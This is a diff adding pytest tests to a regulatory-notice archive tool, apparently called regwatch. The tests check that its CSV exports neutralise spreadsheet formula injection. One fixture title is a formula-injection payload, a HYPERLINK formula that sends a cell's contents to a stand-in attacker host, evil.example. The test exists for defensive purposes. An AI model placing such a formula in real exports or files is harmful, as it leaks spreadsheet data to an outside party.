@@ -148,3 +148,59 @@ def test_archived_markup_prints_as_written(hostile_archive: tuple[str, int]) -> 
             arguments, output)
     shown = regwatch("show", str(notice_id), database_url=url).output
     assert "[/x] [[alerts]]" in shown
+
+
+# --- 4. formula cells ----------------------------------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture(scope="module", name="formula_archive")
+def formula_archive_fixture(tmp_path_factory: pytest.TempPathFactory) -> str:
+    url = f"sqlite:///{tmp_path_factory.mktemp('formula') / 'archive.db'}"
+    engine = open_archive(url)
+    spec = NoticeSpec("formula", "cac-test", FORMULA_TITLE,
+                      "2023年，全国网信系统依法约谈网站10646家。",
+                      datetime(2024, 1, 31, 10, 0, tzinfo=UTC), "zh")
+    with session_factory(engine)() as session:
+        add_sources(session)
+        outcome = record_notice(session, fetched(spec, spec.text, datetime(2024, 2, 1, tzinfo=UTC)))
+        assert outcome.version is not None
+        record_findings(session, outcome.version, "cac-test")
+        session.commit()
+    engine.dispose()
+    return url
+
+
+def formula_cells(output: str) -> list[str]:
+    import csv
+    import io
+    import re
+
+    number = re.compile(r"-?\d+(\.\d+)?")
+    return [cell for row in csv.reader(io.StringIO(output)) for cell in row
+            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not number.fullmatch(cell)]
+
+
+def test_every_csv_regwatch_writes_neutralises_formulas(formula_archive: str) -> None:
+    for arguments in (("figures", "--csv"), ("export", "--format", "csv"),
+                      ("export", "--what", "figures", "--format", "csv"),
+                      ("export", "--what", "events", "--format", "csv")):
+        result = CliRunner().invoke(main, ["--database-url", formula_archive, *arguments])
+        assert result.exit_code == 0, (arguments, result.output)
+        if "figures" not in arguments[1:]:  # figure rows carry no title
+            assert "HYPERLINK" in result.stdout, arguments
+        assert formula_cells(result.stdout) == [], arguments
+    figures = CliRunner().invoke(main, ["--database-url", formula_archive, "figures", "--csv"])
+    assert "'" + FORMULA_TITLE in figures.stdout.replace('""', '"')
+
+
+def test_csv_is_written_by_one_writer() -> None:
+    root = Path(__file__).resolve().parent.parent
+    writers = sorted(
+        str(path.relative_to(root))
+        for folder in ("cli", "config", "crawler", "storage", "diffing", "alerts", "web")
+        for path in (root / folder).rglob("*.py")
+        if "csv.writer" in (text := path.read_text(encoding="utf-8")) or "csv.DictWriter" in text
+    ) + [name for name in ("scheduler.py",) if "csv." in (root / name).read_text("utf-8")]
+    assert writers == ["cli/csv_output.py"]
